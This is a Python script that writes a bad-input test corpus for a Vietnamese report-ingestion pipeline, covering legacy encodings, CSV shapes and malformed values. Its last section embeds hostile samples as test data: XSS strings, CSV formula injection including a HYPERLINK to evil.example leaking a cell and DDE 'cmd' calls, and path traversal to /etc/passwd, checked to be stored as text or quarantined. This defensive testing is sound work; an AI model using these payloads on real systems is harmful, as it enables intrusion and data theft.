#!/usr/bin/env python3
"""Writes the text cases of the bad-input corpus (pipeline/src/test/resources/corpus).

Each case is one input file plus <file>.expect with its exact outcome:
  accepted N               rows accepted
  row R REASON field       a quarantined row (row number as Excel shows it)
  file REASON              the whole file quarantined
  message TEXT             some message must contain TEXT
  note R TEXT              the note of row R is stored exactly as TEXT (NFC), never interpreted
Lines starting with # describe the case. Run from this folder: python3 make_csv_cases.py
"""
import codecs
import os
import unicodedata

OUT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "resources", "corpus")
H = "ma_don_vi,ma_ke_hoach,ky_bao_cao,ngay_nop,ma_muc,gia_tri,ghi_chu\n"
GOOD = ("CB-A,12-KH/ĐU,2024-H1,28/04/2024,NV1,hoàn thành,Chi bộ đã quán triệt nghị quyết đến 100% đảng viên\n"
        "CB-A,12-KH/ĐU,2024-H1,28/04/2024,NV2,đang thực hiện 60%,\n"
        "CB-A,12-KH/ĐU,2024-H1,28/04/2024,MH-DK,3,\n"
        "CB-A,12-KH/ĐU,2024-H1,28/04/2024,CBVC,1.234,\n"
        "CB-A,12-KH/ĐU,2024-H1,28/04/2024,ATGT-DK,1.200,\n"
        "CB-A,12-KH/ĐU,2024-H1,28/04/2024,HAI-LONG,\"8,7\",\n"
        "CB-A,12-KH/ĐU,2024-H1,28/04/2024,TL-HT,95%,\n")


def to_1258(text):
    """Windows-1258 keeps vowel shapes precomposed (ô, ơ, ư...) and tone marks as combining bytes."""
    out, d, i = [], unicodedata.normalize("NFD", text), 0
    while i < len(d):
        base, i, marks = d[i], i + 1, []
        while i < len(d) and unicodedata.combining(d[i]):
            marks.append(d[i])
            i += 1
        shape = [m for m in marks if m in "\u0302\u0306\u031b"]
        tones = [m for m in marks if m not in shape]
        out.append(unicodedata.normalize("NFC", base + "".join(shape)) + "".join(tones))
    return "".join(out).encode("cp1258")


# TCVN3 (ABC, TCVN 5712:1993 "VN3"): one byte per letter. Capitals with a tone have no code of their own
# (a ".VnTimeH" font draws the small letter as a capital), so they are written as the small letter.
TCVN3 = dict(zip(
    "ĂÂÊÔƠƯĐăâêôơưđ"
    "àảãáạằẳẵắặầẩẫấậèẻẽéẹềểễếệìỉĩíịòỏõóọồổỗốộờởỡớợùủũúụừửữứựỳỷỹýỵ",
    [0xA1, 0xA2, 0xA3, 0xA4, 0xA5, 0xA6, 0xA7, 0xA8, 0xA9, 0xAA, 0xAB, 0xAC, 0xAD, 0xAE,
     0xB5, 0xB6, 0xB7, 0xB8, 0xB9, 0xBB, 0xBC, 0xBD, 0xBE, 0xC6, 0xC7, 0xC8, 0xC9, 0xCA, 0xCB,
     0xCC, 0xCE, 0xCF, 0xD0, 0xD1, 0xD2, 0xD3, 0xD4, 0xD5, 0xD6, 0xD7, 0xD8, 0xDC, 0xDD, 0xDE,
     0xDF, 0xE1, 0xE2, 0xE3, 0xE4, 0xE5, 0xE6, 0xE7, 0xE8, 0xE9, 0xEA, 0xEB, 0xEC, 0xED, 0xEE,
     0xEF, 0xF1, 0xF2, 0xF3, 0xF4, 0xF5, 0xF6, 0xF7, 0xF8, 0xF9, 0xFA, 0xFB, 0xFC, 0xFD, 0xFE]))


def to_tcvn3(text):
    out = bytearray()
    for ch in unicodedata.normalize("NFC", text):
        out.append(ord(ch) if ord(ch) < 0x80 else TCVN3.get(ch, TCVN3.get(ch.lower())))
    return bytes(out)


# VNI Windows: the ASCII letter, then bytes for its shape and tone, drawn by the VNI fonts on Latin-1 glyphs
# ("Trường" is "Tröôøng"). Each mark maps to its (small, capital) glyph.
VNI_TONE = {"\u0301": "ùÙ", "\u0300": "øØ", "\u0309": "ûÛ", "\u0303": "õÕ", "\u0323": "ïÏ"}
VNI_CIRCUMFLEX = {None: "âÂ", "\u0301": "áÁ", "\u0300": "àÀ", "\u0309": "åÅ", "\u0303": "ãÃ", "\u0323": "äÄ"}
VNI_BREVE = {None: "êÊ", "\u0301": "éÉ", "\u0300": "èÈ", "\u0309": "úÚ", "\u0303": "üÜ", "\u0323": "ëË"}
VNI_I = {"\u0301": "íÍ", "\u0300": "ìÌ", "\u0309": "æÆ", "\u0303": "óÓ", "\u0323": "òÒ"}


def to_vni(text):
    out = []
    for ch in unicodedata.normalize("NFC", text):
        base, marks = unicodedata.normalize("NFD", ch)[0], unicodedata.normalize("NFD", ch)[1:]
        cap = 1 if base.isupper() else 0
        shape = next((m for m in marks if m in "\u0302\u0306\u031b"), None)
        tone = next((m for m in marks if m in VNI_TONE), None)
        if ch in "đĐ":
            out.append("ñÑ"[cap])
        elif not marks:
            out.append(ch)
        elif shape == "\u0302":
            out.append(base + VNI_CIRCUMFLEX[tone][cap])
        elif shape == "\u0306":
            out.append(base + VNI_BREVE[tone][cap])
        elif shape == "\u031b":
            out.append(("ôÔ" if base in "oO" else "öÖ")[cap] + (VNI_TONE[tone][cap] if tone else ""))
        elif base in "iI":
            out.append(VNI_I[tone][cap])
        elif base in "yY" and tone == "\u0323":
            out.append("îÎ"[cap])
        else:
            out.append(base + VNI_TONE[tone][cap])
    return "".join(out).encode("cp1252")


def case(name, data, expect):
    with open(os.path.join(OUT, name), "wb") as f:
        f.write(data if isinstance(data, bytes) else data.encode("utf-8"))
    with open(os.path.join(OUT, name + ".expect"), "w", encoding="utf-8") as f:
        f.write("\n".join(expect) + "\n")


def main():
    os.makedirs(OUT, exist_ok=True)
    case("ok-utf8.csv", H + GOOD, ["# UTF-8 without BOM, comma separated, Vietnamese numbers", "accepted 7"])
    case("ok-bom-semicolon-title-block.csv", codecs.BOM_UTF8 + (
        "BÁO CÁO KẾT QUẢ THỰC HIỆN KẾ HOẠCH SỐ 12-KH/ĐU;;;;;;\nChi bộ Trường THPT An Lạc;;;;;;\n;;;;;;\n"
        "Mã đơn vị;Mã kế hoạch;Kỳ báo cáo;Ngày nộp;Mã mục;Giá trị;Ghi chú\n"
        "cb-a;12-kh/du;2024-h1;2024-04-28;nv1;Hoàn thành;Đã tổ chức 2 buổi, có biên bản\n"
        "cb-a;12-kh/du;2024-h1;2024-04-28;MH-DK;2;\n").encode("utf-8"),
        ["# UTF-8 with BOM, ';' separator found from the header, title rows above it, Vietnamese header names, codes in other cases",
         "accepted 2"])
    tab = (H + GOOD).replace(",", "\t").replace('"8\t7"', "8,7").replace("\n", "\r\n")
    case("ok-utf16le-bom-tab.txt", codecs.BOM_UTF16_LE + tab.encode("utf-16-le"),
         ["# Excel 'Unicode Text': UTF-16 LE with BOM, tab separated, CRLF", "accepted 7"])
    case("ok-utf16be-bom.csv", codecs.BOM_UTF16_BE + (H + GOOD).encode("utf-16-be"), ["# UTF-16 BE with BOM", "accepted 7"])
    case("ok-nfd-decomposed.csv", unicodedata.normalize(
        "NFD", "Mã đơn vị,Mã kế hoạch,Kỳ báo cáo,Ngày nộp,Mã mục,Giá trị,Ghi chú\n" + GOOD.replace("12-KH/ĐU", "12-KH/DU")),
        ["# Vietnamese in decomposed Unicode (NFD): headers still match, plan code without đ matches", "accepted 7"])
    case("ok-mixed-line-endings.csv", H + GOOD.replace("\n", "\r\n", 3), ["# CRLF and LF mixed in one file", "accepted 7"])
    case("quoted-newline-in-note.csv", H + 'CB-A,12-KH/ĐU,2024-H1,28/04/2024,NV1,hoàn thành,"Dòng một của ghi chú\nDòng hai, có dấu phẩy"\n'
         "CB-A,12-KH/ĐU,2024-H1,28/04/2024,BOGUS,1,\n",
         ["# a quoted note spanning two lines is one record: the next row is record 3", "accepted 1", "row 3 MUC_KHONG_TON_TAI ma_muc"])
    case("header-only.csv", H, ["# header and no data: nothing to accept, nothing lost", "accepted 0"])
    case("bad-empty.csv", b"", ["file TEP_RONG"])
    case("bad-no-header.csv", "ma,ke_hoach,gia tri\n1,2,3\n", ["file KHONG_CO_DONG_TIEU_DE"])
    case("bad-missing-column.csv", "ma_don_vi,ma_ke_hoach,ky_bao_cao,ngay_nop,ma_muc,ghi_chu\nCB-A,12-KH/ĐU,2024-H1,28/04/2024,NV1,\n",
         ["file THIEU_COT", "message thiếu cột gia_tri"])
    case("bad-duplicate-header.csv", H.replace("ghi_chu", "Mã đơn vị") + "CB-A,12-KH/ĐU,2024-H1,28/04/2024,NV1,hoàn thành,CB-B\n",
         ["file TRUNG_COT"])
    case("bad-windows-1258.csv", to_1258(H + GOOD),
         ["# never silently mis-decoded: the likely code page is named", "file MA_HOA_KHONG_HO_TRO", "message Windows-1258"])
    case("bad-unbalanced-quote.csv", H + 'CB-A,12-KH/ĐU,2024-H1,28/04/2024,NV1,hoàn thành,"ghi chú không đóng ngoặc\n'
         "CB-A,12-KH/ĐU,2024-H1,28/04/2024,MH-DK,3,\n", ["file TEP_KHONG_DOC_DUOC"])
    case("bad-unsupported.pdf", b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n", ["file DINH_DANG_KHONG_HO_TRO"])
    case("bad-numbers.csv", H + GOOD
         + "CB-A,12-KH/ĐU,2024-H1,28/04/2024,CBVC,1.5,\n"
         + "CB-A,12-KH/ĐU,2024-H1,28/04/2024,ATGT-DK,\"1,234,5\",\n"
         + "DB-D,12-KH/ĐU,2024-H1,28/04/2024,MH-DK,-3,\n"
         + "DB-D,12-KH/ĐU,2024-H1,28/04/2024,CBVC,\"12,5\",\n"
         + "DB-D,12-KH/ĐU,2024-H1,28/04/2024,TL-HT,101%,\n"
         + "DB-D,12-KH/ĐU,2024-H1,28/04/2024,ATGT-DK,95%,\n"
         + "DB-D,12-KH/ĐU,2024-H1,28/04/2024,HAI-LONG,mười,\n",
         ["# malformed Vietnamese numbers, a negative count, a fraction of a person, percents where they do not belong",
          "accepted 7", "row 9 SO_KHONG_HOP_LE gia_tri", "row 10 SO_KHONG_HOP_LE gia_tri", "row 11 SO_AM gia_tri",
          "row 12 SO_KHONG_HOP_LE gia_tri", "row 13 PHAN_TRAM_VUOT_100 gia_tri", "row 14 SO_KHONG_HOP_LE gia_tri",
          "row 15 SO_KHONG_HOP_LE gia_tri", "message dấu chấm ngăn cách hàng nghìn"])
    case("bad-task-values.csv", H
         + "CB-A,12-KH/ĐU,2024-H1,28/04/2024,NV1,đang thực hiện 120%,\n"
         + "CB-A,12-KH/ĐU,2024-H1,28/04/2024,NV2,tốt,\n"
         + "DB-D,12-KH/ĐU,2024-H1,28/04/2024,NV1,hoàn thành 50%,\n"
         + "DB-D,12-KH/ĐU,2024-H1,28/04/2024,NV2,ĐTH (40%),\n",
         ["accepted 1", "row 2 PHAN_TRAM_VUOT_100 gia_tri", "row 3 TRANG_THAI_KHONG_HOP_LE gia_tri",
          "row 4 TRANG_THAI_KHONG_HOP_LE gia_tri"])
    case("bad-unknown-codes.csv", H
         + "CB-ZZ,12-KH/ĐU,2024-H1,28/04/2024,NV1,hoàn thành,\n"
         + "CB-A,99-KH/ĐU,2024-H1,28/04/2024,NV1,hoàn thành,\n"
         + "CB-A,12-KH/ĐU,2024-H1,28/04/2024,NV9,hoàn thành,\n"
         + "CB-A,12-KH/ĐU,2024-H1,28/04/2024,II,hoàn thành,\n"
         + "CB-A,12-KH/ĐU,2024-H1,28/04/2024,ATGT-TL,95%,\n"
         + "CB-A,12-KH/ĐU,2025-H1,28/04/2025,HAI-LONG,\"8,5\",\n"
         + "CB-A,12-KH/ĐU,2025-H1,28/04/2025,MH-DK,4,\n",
         ["# unknown unit, plan and item; a task group; a computed share typed by hand; an indicator the plan does not carry that year",
          "accepted 1", "row 2 DON_VI_KHONG_TON_TAI ma_don_vi", "row 3 KE_HOACH_KHONG_TON_TAI ma_ke_hoach",
          "row 4 MUC_KHONG_TON_TAI ma_muc", "row 5 MUC_KHONG_THUOC_KE_HOACH ma_muc", "row 6 MUC_TINH_TOAN ma_muc",
          "row 7 MUC_KHONG_THUOC_KE_HOACH ma_muc"])
    case("bad-periods.csv", H
         + "CB-A,12-KH/ĐU,2024-H3,28/04/2024,NV1,hoàn thành,\n"
         + "CB-A,12-KH/ĐU,2024-H2,28/12/2024,NV1,hoàn thành,\n"
         + "CB-A,12-KH/ĐU,2023,28/12/2023,NV1,hoàn thành,\n"
         + "CB-A,12-KH/ĐU,2024,10/01/2025,NV1,hoàn thành,\n",
         ["# a period that cannot exist, one not in the calendar, one before the plan", "accepted 1",
          "row 2 KY_KHONG_HOP_LE ky_bao_cao", "row 3 KY_NGOAI_LICH ky_bao_cao", "row 4 KY_NGOAI_LICH ky_bao_cao"])
    case("bad-dates.csv", H
         + "CB-A,12-KH/ĐU,2024-H1,31/02/2024,NV1,hoàn thành,\n"
         + "DB-D,12-KH/ĐU,2024,2025-07-01,NV1,hoàn thành,\n"
         + "CB-C,12-KH/ĐU,2024-H1,,NV1,hoàn thành,\n"
         + "CB-C,12-KH/ĐU,2024-H1,02/05/2024,NV2,chưa thực hiện,\n",
         ["# an impossible date, a date after the as-of date, a blank date (never filled in from the file's time)",
          "accepted 1", "row 2 NGAY_NOP_KHONG_HOP_LE ngay_nop", "row 3 NGAY_NOP_SAU_NGAY_CHOT ngay_nop",
          "row 4 THIEU_GIA_TRI ngay_nop"])
    case("bad-merged-unit.csv", H
         + "CB-B,12-KH/ĐU,2024,10/01/2025,NV1,hoàn thành,\n"
         + "CB-B,12-KH/ĐU,2024-H1,28/04/2024,NV1,hoàn thành,\n"
         + "CB-C,12-KH/ĐU,2024-H1,02/05/2024,NV1,hoàn thành,\n",
         ["# CB-B merged into CB-A on 01/07/2024: valid for 2024-H1 (cut-off 02/05), not for 2024 (cut-off 31/12);"
          " CB-C, created 01/05/2024, is valid on 02/05", "accepted 2", "row 2 DON_VI_HET_HIEU_LUC ma_don_vi",
          "message đơn vị kế thừa CB-A"])
    case("bad-mixed-dates.csv", H
         + "CB-A,12-KH/ĐU,2024-H1,28/04/2024,NV1,hoàn thành,\n"
         + "CB-A,12-KH/ĐU,2024-H1,29/04/2024,NV2,hoàn thành,\n"
         + "DB-D,12-KH/ĐU,2024-H1,28/04/2024,NV1,hoàn thành,\n",
         ["# one submission, two dates: the whole submission is quarantined, the other unit's is not",
          "accepted 1", "row 2 NGAY_NOP_KHONG_DONG_NHAT ngay_nop", "row 3 NGAY_NOP_KHONG_DONG_NHAT ngay_nop"])
    case("bad-duplicates.csv", H
         + "CB-A,12-KH/ĐU,2024-H1,28/04/2024,MH-DK,3,\n"
         + "CB-A,12-KH/ĐU,2024-H1,28/04/2024,MH-DK,3,\n"
         + "CB-A,12-KH/ĐU,2024-H1,28/04/2024,CBVC,40,\n"
         + "CB-A,12-KH/ĐU,2024-H1,28/04/2024,CBVC,41,\n",
         ["# an exact repeat keeps the first row; the same item with two values keeps neither",
          "accepted 1", "row 3 TRUNG_DONG ma_muc", "row 4 TRUNG_MUC_KHAC_GIA_TRI gia_tri", "row 5 TRUNG_MUC_KHAC_GIA_TRI gia_tri"])
    case("bad-extra-cells.csv", H
         + "CB-A,12-KH/ĐU,2024-H1,28/04/2024,HAI-LONG,8,7\n"
         + "CB-A,12-KH/ĐU,2024-H1,28/04/2024,MH-DK,3\n"
         + "CB-A,12-KH/ĐU,2024-H1,28/04/2024,CBVC,40,ghi chú,thừa\n",
         ["# an unquoted decimal comma cannot be told from a note: 'HAI-LONG,8,7' is accepted as 8 with note 7;"
          " a missing trailing note is fine; a cell beyond the header is refused",
          "accepted 2", "row 4 SO_COT_KHONG_KHOP (dòng)"])

    encodings()
    csv_shapes()
    values_and_hostile_content()


def encodings():
    text = H + GOOD
    case("bad-windows-1252.csv", text.encode("cp1252", errors="replace"),
         ["# Excel 'CSV (Comma delimited)' on an English Windows: letters outside Windows-1252 are already '?'",
          "file MA_HOA_KHONG_HO_TRO", "message Windows-1252", "message dấu '?'"])
    case("bad-tcvn3.csv", to_tcvn3(text),
         ["# TCVN3 (ABC) bytes from the .VnTime font era: named, never mis-decoded", "file MA_HOA_KHONG_HO_TRO",
          "message TCVN3"])
    case("bad-vni.csv", to_vni(text),
         ["# VNI Windows bytes ('Tröôøng'): named, never mis-decoded", "file MA_HOA_KHONG_HO_TRO", "message VNI"])
    case("bad-utf16le-no-bom.csv", text.encode("utf-16-le"),
         ["# UTF-16 without its BOM: the NULs between letters are valid UTF-8, so it is named before reading",
          "file MA_HOA_KHONG_HO_TRO", "message UTF-16 không có BOM"])
    rows = text.splitlines(keepends=True)
    case("bad-nul-byte.csv", ("".join(rows[:3]) + rows[3].replace("MH-DK", "MH-\0DK") + "".join(rows[4:])).encode("utf-8"),
         ["# one NUL byte in row 4: a text report never holds one, the file is damaged", "file TEP_KHONG_DOC_DUOC",
          "message dòng 4", "message NUL"])
    case("bad-nul-padding.csv", ("".join(rows[:4])).encode("utf-8") + b"\0" * 4096,
         ["# written half-way when the power failed: the rest of the file is NUL bytes (not UTF-16: NULs at every offset)",
          "file TEP_KHONG_DOC_DUOC", "message NUL"])
    case("ok-cr-line-endings.csv", text.replace("\n", "\r"), ["# old Mac line endings: CR alone", "accepted 7"])
    note = "Trường THPT An Lạc: 3 mô hình"
    nfc_row = "CB-A,12-KH/ĐU,2024-H1,28/04/2024,MH-DK,3," + note + "\n"
    case("ok-nfc-nfd-repeat.csv", H + nfc_row + unicodedata.normalize("NFD", nfc_row)
         + unicodedata.normalize("NFD", "CB-A,12-KH/ĐU,2024-H1,28/04/2024,NV1,hoàn thành,Trường đã quán triệt\n"),
         ["# the same row typed in composed (NFC) and decomposed (NFD) Unicode is the same row: 'Trường' matches",
          "accepted 2", "row 3 TRUNG_DONG ma_muc", "note 2 " + note, "note 3 " + note, "note 4 Trường đã quán triệt"])


def csv_shapes():
    bom = "\ufeff"
    case("ok-bom-in-the-middle.csv", bom + H
         + "CB-A,12-KH/ĐU,2024-H1,28/04/2024,NV1,hoàn thành,\n"
         + "CB-A,12-KH/ĐU,2024-H1,28/04/2024,MH-DK,3,\n"
         + bom + H
         + "DB-D,12-KH/ĐU,2024-H1,27/04/2024,NV1,hoàn thành,\n"
         + bom + "DB-D,12-KH/ĐU,2024-H1,27/04/2024,MH-DK,2," + bom + "\n",
         ["# two UTF-8 files with BOM joined (copy /b a.csv+b.csv): the BOMs inside are invisible, never part of a value",
          "accepted 4", "note 6"])
    case("ok-repeated-header-row.csv", H
         + "CB-A,12-KH/ĐU,2024-H1,28/04/2024,NV1,hoàn thành,\n"
         + "CB-A,12-KH/ĐU,2024-H1,28/04/2024,MH-DK,3,\n"
         + "ma_muc,gia_tri,ghi_chu,ma_don_vi,ma_ke_hoach,ky_bao_cao,ngay_nop\n"
         + "NV1,hoàn thành,,DB-D,12-KH/ĐU,2024-H1,27/04/2024\n"
         + "MH-DK,2,mô hình mới,DB-D,12-KH/ĐU,2024-H1,27/04/2024\n",
         ["# two reports pasted into one file, the second with its own header in another column order:"
          " a header row is not data, and it maps the rows below it", "accepted 4", "note 6 mô hình mới"])
    case("ok-extra-header-columns.csv", "STT,Mã đơn vị,Mã kế hoạch,Kỳ báo cáo,Ngày nộp,Mã mục,Giá trị,Ghi chú,Người lập\n"
         + "1,CB-A,12-KH/ĐU,2024-H1,28/04/2024,NV1,hoàn thành,,Nguyễn Thị B\n"
         + "2,CB-A,12-KH/ĐU,2024-H1,28/04/2024,MH-DK,3,,Nguyễn Thị B\n",
         ["# columns the report does not use (STT, Người lập) are ignored", "accepted 2"])
    case("bad-short-row.csv", H
         + "CB-A,12-KH/ĐU,2024-H1,28/04/2024,NV1,hoàn thành,\n"
         + "CB-A,12-KH/ĐU,2024-H1,28/04/2024,MH-DK\n"
         + "CB-A\n",
         ["# rows with fewer cells than the header: the first missing required field is named",
          "accepted 1", "row 3 THIEU_GIA_TRI gia_tri", "row 4 THIEU_GIA_TRI ma_ke_hoach"])


def values_and_hostile_content():
    sentence = "Chi bộ tổ chức quán triệt Nghị quyết số 20-NQ/TU đến toàn thể đảng viên, có biên bản kèm theo. "
    long_note = (sentence * 200)[:10000]
    too_long = (sentence * 500)[:40000]
    case("bad-very-long-notes.csv", H
         + "CB-A,12-KH/ĐU,2024-H1,28/04/2024,NV1,hoàn thành,\"" + long_note + "\"\n"
         + "CB-A,12-KH/ĐU,2024-H1,28/04/2024,MH-DK,3,\"" + too_long + "\"\n",
         ["# a 10.000-character note is kept whole; one longer than an Excel cell (32.767) cannot have been typed in one"
          " and could not be exported to .xlsx", "accepted 1", "row 3 NOI_DUNG_QUA_DAI ghi_chu", "message 40.000 ký tự"])
    notes = ["<script>alert('xss')</script>", "<img src=x onerror=alert(1)>", "</td></tr><svg onload=alert(1)>",
             "&lt;b&gt; đã là văn bản &amp; giữ nguyên"]
    items = ["NV1", "NV2", "MH-DK", "CBVC"]
    values = ["hoàn thành", "chưa thực hiện", "3", "40"]
    case("ok-html-script-in-notes.csv", H
         + "".join("CB-A,12-KH/ĐU,2024-H1,28/04/2024,%s,%s,\"%s\"\n" % (i, v, n) for i, v, n in zip(items, values, notes))
         + "<script>alert(1)</script>,12-KH/ĐU,2024-H1,28/04/2024,NV1,hoàn thành,\n"
         + "DB-D,12-KH/ĐU,2024-H1,28/04/2024,MH-DK,<b>3</b>,\n",
         ["# HTML and script in notes are text, stored as typed (escaping is the pages' job); in codes and values they are"
          " quarantined like any unknown code or malformed number", "accepted 4", "row 6 DON_VI_KHONG_TON_TAI ma_don_vi",
          "row 7 SO_KHONG_HOP_LE gia_tri", "message '<script>alert(1)</script>'"]
         + ["note %d %s" % (r + 2, n) for r, n in enumerate(notes)])
    formulas = ['=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
                "@SUM(1+1)*cmd|' /C calc'!A0"]
    case("ok-formula-text-in-notes.csv", H
         + "".join("CB-A,12-KH/ĐU,2024-H1,28/04/2024,%s,%s,\"%s\"\n" % (i, v, n.replace('"', '""'))
                   for i, v, n in zip(items, values, formulas))
         + "DB-D,12-KH/ĐU,2024-H1,28/04/2024,MH-DK,=1+2,\n",
         ["# formula text in notes is accepted as text and never evaluated (exports neutralise it);"
          " a formula as a value is not a number", "accepted 4", "row 6 SO_KHONG_HOP_LE gia_tri"]
         + ["note %d %s" % (r + 2, n) for r, n in enumerate(formulas)])
    case("bad-path-traversal-codes.csv", H
         + "../../etc/passwd,12-KH/ĐU,2024-H1,28/04/2024,NV1,hoàn thành,\n"
         + "CB-A,../../../etc/passwd,2024-H1,28/04/2024,NV1,hoàn thành,\n"
         + "CB-A,12-KH/ĐU,../2024-H1,28/04/2024,NV1,hoàn thành,\n"
         + "CB-A,12-KH/ĐU,2024-H1,28/04/2024,..\\..\\Windows\\win.ini,3,\n"
         + "CB-A,12-KH/ĐU,2024-H1,28/04/2024,MH-DK,3,../../etc/passwd\n",
         ["# path traversal in codes is an unknown code: quarantined, and no typed text ever names a folder of the store"
          " (the test checks every row's plan slug and unit come from the catalog); in a note it is text",
          "accepted 1", "row 2 DON_VI_KHONG_TON_TAI ma_don_vi", "row 3 KE_HOACH_KHONG_TON_TAI ma_ke_hoach",
          "row 4 KY_KHONG_HOP_LE ky_bao_cao", "row 5 MUC_KHONG_TON_TAI ma_muc", "note 6 ../../etc/passwd"])


if __name__ == "__main__":
    main()
